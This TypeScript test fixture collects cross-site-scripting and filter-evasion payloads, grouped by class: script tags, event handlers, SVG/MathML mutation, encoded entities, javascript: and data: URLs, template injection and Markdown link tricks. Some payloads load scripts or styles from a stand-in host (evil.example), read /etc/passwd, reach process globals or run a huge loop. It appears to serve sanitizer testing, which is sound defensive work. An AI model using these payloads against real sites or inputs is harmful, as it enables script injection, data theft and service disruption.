/**
 * Texts that try to run, by the class of the trick. The classes are those of the OWASP cheat sheet on
 * filter evasion; the texts are our own. Each would set `__pwned`, open a dialog or ask evil.example.
 */
const run = '__pwned=1';
const evil = 'evil.example';
const coded = Array.from(`javascript:${run}`, (letter) => letter.codePointAt(0) ?? 0);
const entities = (write: (code: number) => string) => coded.map(write).join('');
const character = (code: number) => String.fromCodePoint(code);

const scripts = [
  `<script>${run}</script>`,
  `<SCRIPT>${run}</SCRIPT>`,
  `<ScRiPt >${run}</sCrIpT >`,
  `<script\n>${run}</script\n>`,
  `<script\t>${run}</script>`,
  `<script/x>${run}</script>`,
  `<script/src=//${evil}/x.js></script>`,
  `<script src=//${evil}/x.js`,
  `<script src="//${evil}/x.js"></script>`,
  `<script type=module>${run}</script>`,
  `<script type=text/ecmascript>${run}</script>`,
  `<script async src="data:text/javascript,${run}"></script>`,
  `<<script>${run}//<</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script>${run}<!--`,
  `<!--><script>${run}</script>-->`,
  `<!-- --!><script>${run}</script>`,
  `--><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<?xml version="1.0"?><script>${run}</script>`,
  `<?x ><script>${run}</script>`,
  `<!x ><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `</noscript><script>${run}</script>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `" onfocus=${run} autofocus x="`,
  `' onfocus=${run} autofocus x='`,
  `\u0000<script>${run}</script>`,
  `<\u0000script>${run}</script>`,
  `＜script＞${run}＜/script＞`,
  `<script>${run}</script>`.replaceAll('<', '\u2039'),
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `<script>${run}</script>`.replaceAll('<', '\\u003c'),
  `%3Cscript%3E${run}%3C/script%3E`,
];

const handlers = [
  `<img src=x onerror=${run}>`,
  `<IMG SRC=x ONERROR=${run}>`,
  `<img src=x onerror\n=\n${run}>`,
  `<img/src=x/onerror=${run}>`,
  `<img src=\`x\` onerror=\`${run}\`>`,
  `<img """><script>${run}</script>">`,
  `<img src=x onerror="&#95;&#95;pwned=1">`,
  `<img src="https://${evil}/x.png">`,
  `<img srcset="//${evil}/x.png 1x">`,
  `<image src=x onerror=${run}>`,
  `<body onload=${run}>`,
  `<body\u000bonload=${run}>`,
  `<svg onload=${run}>`,
  `<details open ontoggle=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<div style="animation:x" onanimationstart=${run}>x</div>`,
  `<div style="background:url(//${evil}/x)">x</div>`,
  `<style>@import '//${evil}/x.css';</style>`,
  `<link rel=stylesheet href=//${evil}/x.css>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<meta http-equiv=refresh content="0;url=//${evil}/">`,
  `<base href="//${evil}/">`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="data:text/html,<script>${run}</script>"></object>`,
  `<embed src="//${evil}/x.swf">`,
  `<form action="//${evil}/"><button autofocus>x</button></form>`,
  `<button formaction="javascript:${run}">x</button>`,
  `<template shadowrootmode=open><script>${run}</script></template>`,
  `<x onclick=${run} tabindex=1 autofocus>x</x>`,
  `<a id=currentScript><a id=currentScript name=src href=//${evil}/>x</a>`,
];

const foreign = [
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:,${run}"/></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a><animate attributeName=href values="javascript:${run}"/><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x><script>${run}</script></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe src="javascript:${run}"/></foreignObject></svg>`,
  `<svg><image href="//${evil}/x.png"/></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<math><maction actiontype="statusline#x" xlink:href="javascript:${run}">x</maction></math>`,
  `<math href="javascript:${run}">x</math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></table></mtext></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
];

const encoded = [
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `&#x3c;script&#x3e;${run}&#x3c;/script&#x3e;`,
  `&#0000060script&#0000062${run}&#0000060/script&#0000062`,
  `&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;`,
  `&lt;img src=x onerror=${run}&gt;`,
  `&quot;&gt;&lt;script&gt;${run}&lt;/script&gt;`,
];

const targets = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `javascript://%0a${run}`,
  `javascript&colon;${run}`,
  `javascript&#58;${run}`,
  `java&Tab;script:${run}`,
  `java&NewLine;script:${run}`,
  `java\tscript:${run}`,
  `java%0ascript:${run}`,
  `java&#10;script:${run}`,
  `&#1;javascript:${run}`,
  `&#14; javascript:${run}`,
  `\u0001javascript:${run}`,
  `\u00a0javascript:${run}`,
  `\u200bjavascript:${run}`,
  `javascript\\:${run}`,
  `\\javascript:${run}`,
  `%6aavascript:${run}`,
  `javascript%3A${run}`,
  `view-source:javascript:${run}`,
  `feed:javascript:${run}`,
  `blob:javascript:${run}`,
  entities((code) => `&#${code};`),
  entities((code) => `&#x${code.toString(16)};`),
  entities((code) => `&#${String(code).padStart(7, '0')};`),
  entities((code) => `%${code.toString(16)}`),
  `vbscript:MsgBox(1)`,
  `VbScRiPt:MsgBox(1)`,
  `livescript:${run}`,
  `mocha:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5fX3B3bmVkPTE8L3NjcmlwdD4=`,
  `DATA:text/html;charset=utf-7,+ADw-script+AD4-${run}`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
  `data&colon;text/html,${run}`,
  `data:application/xhtml+xml,${run}`,
  `file:///etc/passwd`,
  `filesystem:http://${evil}/temporary/x`,
  `about:blank#${run}`,
];

const templates = [
  `{{ 7*7 }}{{ constructor.constructor('${run}')() }}`,
  `{% set x = cycler.__init__.__globals__ %}{{ x }}`,
  `{% include "../../../../etc/passwd" %}`,
  `{{ page | dump | safe }}`,
  `{# comment #}{% raw %}<script>${run}</script>{% endraw %}`,
  `{%- for x in range(1000000000) -%}x{%- endfor -%}`,
  `{{ range.constructor("return process.exit(7)")() }}`,
  `{{ '<script>${run}</script>' | safe }}`,
  `$\{${run}}`,
  `<%= ${run} %>`,
  `#{${run}}`,
  `[[${run}]]`,
];

const markdown = [
  `[x](<javascript:${run}>)`,
  `[x]( javascript:${run} )`,
  `[x](http://a" onmouseover="${run})`,
  `[x](https://a.example "t\\" onmouseover=\\"${run}")`,
  `[x](https://a.example '"><script>${run}</script>')`,
  `[<img src=x onerror=${run}>](https://a.example)`,
  `![" onerror="${run}](x.png)`,
  `![x](x.png"onerror="${run})`,
  `![x](https://${evil}/x.png)`,
  `![x](//${evil}/x.png)`,
  `![x](data:image/svg+xml,<svg/onload=${run}>)`,
  `![x](javascript:${run})`,
  `[![x](javascript:${run})](javascript:${run})`,
  `<javascript:${run}>`,
  `<https://a.example/"onmouseover="${run}>`,
  `[x][r]\n\n[r]: javascript:${run}`,
  `[x][r]\n\n[r]: https://a.example "\\"><script>${run}</script>"`,
  `[r]: <java\tscript:${run}> 'x'\n\n[r]`,
  `[__proto__]\n\n[__proto__]: javascript:${run}`,
  `| <script>${run}</script> | b |\n| --- | :-: |\n| [x](javascript:${run}) | <img src=x onerror=${run}> |`,
  `## <script>${run}</script> {onclick=${run}}`,
  `一、<img src=x onerror=${run}>`,
  `甲[^<script>${run}</script>]\n\n[^<script>${run}</script>]: <img src=x onerror=${run}>`,
  `甲[^" onclick="${run}]\n\n[^" onclick="${run}]: [x](javascript:${run})`,
  `甲^[<svg onload=${run}>]`,
  `\`\`\`"><script>${run}</script>\n</code></pre><script>${run}</script>\n\`\`\``,
  `\`</code><script>${run}</script>\``,
  `- [ ] <script>${run}</script>\n- > <img src=x onerror=${run}>`,
  `<div markdown="1" onclick="${run}">\n\n**x**\n\n</div>`,
  `<p align="center" onclick="${run}">x</p>`,
  `<table><tr><td onclick=${run} style="x:expression(${run})">x</td></tr></table>`,
  `<br onclick=${run}><u onmouseover=${run}>x</u><sup id=x style=color:red>x</sup>`,
  `**<b onclick=${run}>x**</b>`,
  `问：<script>${run}</script>\n\n答：<img src=x onerror=${run}>`,
];

/** Every text, by the class of its trick. Link targets stand alone here; see `inText`. */
const payloads: Readonly<Record<string, readonly string[]>> = {
  scripts,
  handlers,
  foreign,
  encoded,
  targets,
  templates,
  markdown,
};

/** Where the browser's URL parser drops a character within a scheme, each is tried. */
const dropped = [9, 10, 13, 0, 1, 11, 12, 31, 32, 127, 0xad, 0xfeff, 0x2028].map(
  (code) => `java${character(code)}script:${run}`,
);

export const everyPayload: readonly string[] = [...Object.values(payloads).flat(), ...dropped];

/** A payload as it may stand in a Markdown text: link targets as links, images and bare text. */
export function inText(payload: string): string {
  if (!targets.includes(payload) && !dropped.includes(payload)) return payload;
  const [bare, image] = [`[x](${payload})`, `![x](${payload})`];
  return `${bare}\n\n${image}\n\n[x](<${payload}>)\n\n<a href="${payload}">x</a>\n\n${payload}`;
}
